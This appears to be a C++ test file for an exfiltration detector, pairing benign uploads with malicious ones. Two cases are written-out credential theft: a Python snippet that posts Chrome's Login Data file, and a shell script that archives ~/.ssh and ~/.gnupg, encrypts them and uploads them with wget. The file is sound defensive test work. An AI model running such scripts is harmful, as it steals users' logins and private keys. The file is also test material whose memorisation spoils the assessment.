// The classes the seventy-fourth round modelled (issue 14), found by
// programs written from the rubric alone by writers who never saw the
// assessor (tests/corpus/prog78_MANIFEST.tsv): small clinics, browser
// helpers, ad operations, virtual machines, open-source intelligence. Its
// aside scored 23/25 before any change for it; the classes below came from
// its tune part (73/75 before). Strings here are never executed.
#include "test_util.hpp"

namespace mai::assess::test {
namespace {

// A browser's bookmarks are links the user saved, not its logins or
// cookies: posting them to a bookmark service with its own key is ordinary.
TEST(SeventyFourthRoundClasses, BookmarksAreNotBrowserCredentials) {
  const Case cases[] = {
      {"Chrome's Bookmarks posted to a bookmark service", L,
       "import json, os, pathlib, requests\n"
       "p = pathlib.Path.home() / '.config/google-chrome/Default/Bookmarks'\n"
       "data = json.loads(p.read_text())\n"
       "requests.post('https://links.example.com/api/bookmarks/', json=data,\n"
       "              headers={'Authorization': 'Token ' + os.environ['LINKDING_TOKEN']}, timeout=10)\n",
       nullptr},
      {"Chrome's Login Data posted the same way", B,
       "import os, pathlib, requests\n"
       "p = pathlib.Path.home() / '.config/google-chrome/Default/Login Data'\n"
       "requests.post('https://links.example.com/api/bookmarks/', data=p.read_bytes(), timeout=10)\n",
       "EXFILTRATION"},
  };
  for (const auto& c : cases) check(c);
}

// find ROOT -print names files under ROOT: a list it writes for tar -T is
// that tree (negated name tests exclude, they do not name what is found),
// and an archive named from run-time parts in a distinctively named
// directory is the same file when encrypted and uploaded.
TEST(SeventyFourthRoundClasses, FilesFoundUnderAKeyDirectoryAndArchivedAreKeys) {
  const Case cases[] = {
      {"~/.ssh and ~/.gnupg listed by find, archived, encrypted, posted", B,
       "#!/bin/bash\n"
       "WORK=\"${TMPDIR:-/tmp}/escrow.$$\"\n"
       "BUNDLE=\"$WORK/$(id -un)-$(hostname)-$(date +%s).tar.gz\"\n"
       "mkdir -p \"$WORK\"\n"
       "for p in \"$HOME/.ssh\" \"$HOME/.gnupg\"; do\n"
       "    find \"$p\" -maxdepth 2 -type f ! -name 'S.*' -print\n"
       "done > \"$WORK/list\"\n"
       "tar -czf \"$BUNDLE\" -C / -T \"$WORK/list\"\n"
       "openssl enc -aes-256-cbc -pbkdf2 -in \"$BUNDLE\" -out \"$BUNDLE.enc\" -pass env:PASS\n"
       "wget -q --post-file=\"$BUNDLE.enc\" https://escrow.example.net/api/v1/bundles\n",
       "EXFILTRATION", Language::shell},
      {"the project's sources listed by find and archived the same way", L,
       "#!/bin/bash\n"
       "WORK=$(mktemp -d)\n"
       "BUNDLE=\"$WORK/$(date +%s)-sources.tar.gz\"\n"
       "find src docs -type f -name '*.py' -print > \"$WORK/list\"\n"
       "tar -czf \"$BUNDLE\" -T \"$WORK/list\"\n"
       "wget -q --post-file=\"$BUNDLE\" https://releases.example.net/api/v1/upload\n",
       nullptr, Language::shell},
  };
  for (const auto& c : cases) check(c);
}

}  // namespace
}  // namespace mai::assess::test
